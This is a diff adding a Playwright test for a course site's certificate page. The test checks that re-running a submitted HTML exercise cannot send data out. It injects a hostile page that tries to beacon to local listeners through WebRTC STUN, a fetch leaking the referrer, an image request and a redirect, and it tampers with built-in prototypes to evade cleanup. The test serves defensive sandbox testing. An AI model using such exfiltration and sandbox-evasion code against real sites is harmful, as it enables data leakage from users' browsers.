@@ -1,8 +1,10 @@
 import { readFile } from "node:fs/promises";
 import type { Browser, Locator, Page } from "@playwright/test";
+import { openListeners } from "../runners/testing/listeners.ts";
 import { expectAccessible, expectNoOverflow } from "./accessibility.ts";
 import { almostDone, graduate, pass, show } from "./certificate.ts";
 import { expect, ONCE, test, visit } from "./kadam-test.ts";
+import { findExercise } from "./study-day.ts";
 
 /** Somebody else's browser, without a session. */
 async function strangersPage(browser: Browser, page: Page, baseURL: string | undefined): Promise<Page> {
@@ -130,6 +132,66 @@ test("code that fails is shown to fail, and what changed since is said", ONCE, a
   );
   await expectWellMade(page);
 });
+
+test(
+  "a submission that tries to get out is run again, and nothing is sent anywhere",
+  ONCE,
+  async ({ page, errorLog }) => {
+    // The browser says on its console what it refused.
+    errorLog.expect(/Content Security Policy|Connection-Allowlist|Blocked|Refused|ERR_/i);
+    const { certificate } = await graduate(page.request);
+    await show(page.request, certificate, { isPublic: true, sharesCode: true });
+    const { day, exercise } = await findExercise(
+      page.request,
+      ({ kind, entry, files }) =>
+        kind === "web" &&
+        files.some(({ path, isLocked }) => path === entry && /\.html$/.test(path) && !isLocked),
+    );
+    const listeners = await openListeners();
+    const text = leavingPage(listeners.ports);
+    await page.route("**/submissions", async (route) => {
+      const reply = await route.fetch();
+      const { submissions } = await reply.json();
+      const changed = submissions.map((kept: object) => ({
+        ...kept,
+        courseId: day.courseId,
+        dayNumber: day.dayIndex + 1,
+        exerciseId: exercise.id,
+        title: exercise.title,
+        files: [{ path: exercise.entry, text }],
+      }));
+      await route.fulfill({ response: reply, json: { submissions: changed } });
+    });
+    await visit(page, `/verify/${certificate.id}`);
+    await expect(page.getByText("Nothing is sent anywhere.")).toBeVisible();
+    const proof = row(page, exercise.title);
+    await proof.getByRole("button", { expanded: false }).click();
+    await proof.getByRole("button", { name: /^Run again/ }).click();
+    await expect(proof.getByRole("status")).toHaveText(/^Does not pass now: /, { timeout: 30_000 });
+    // What was shown stays on the page and may go on trying.
+    await page.waitForTimeout(1500);
+    expect(listeners.takeHeard()).toEqual([]);
+    listeners.close();
+  },
+);
+
+function leavingPage({ udp, http }: { readonly udp: number; readonly http: number }): string {
+  const connect = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
+  const framed = `<iframe srcdoc="${`<script>${connect}</script>`.replaceAll('"', "&quot;")}"></iframe>`;
+  return `<!doctype html><html lang="en"><head><title>x</title></head><body>${framed}<img alt="" src="http://127.0.0.1:${http}/image"><script>
+Element.prototype.remove = () => {};
+Document.prototype.querySelectorAll = () => [];
+Set.prototype[Symbol.iterator] = function* () {};
+const framed = ${JSON.stringify(framed).replaceAll("</", "<\\/")};
+const host = document.createElement("div");
+host.attachShadow({ mode: "open", clonable: true }).innerHTML = framed;
+document.body.append(host.cloneNode(true));
+document.body.insertAdjacentHTML("beforeend", framed);
+fetch("http://127.0.0.1:${http}/fetch?" + document.referrer).catch(() => {});
+try { ${connect} } catch {}
+setTimeout(() => { location.href = "http://127.0.0.1:${http}/away"; }, 3000);
+</script></body></html>`;
+}
 
 test("code that cannot be loaded can be asked for again", ONCE, async ({ page, errorLog }) => {
   errorLog.expect(/had no answer/);
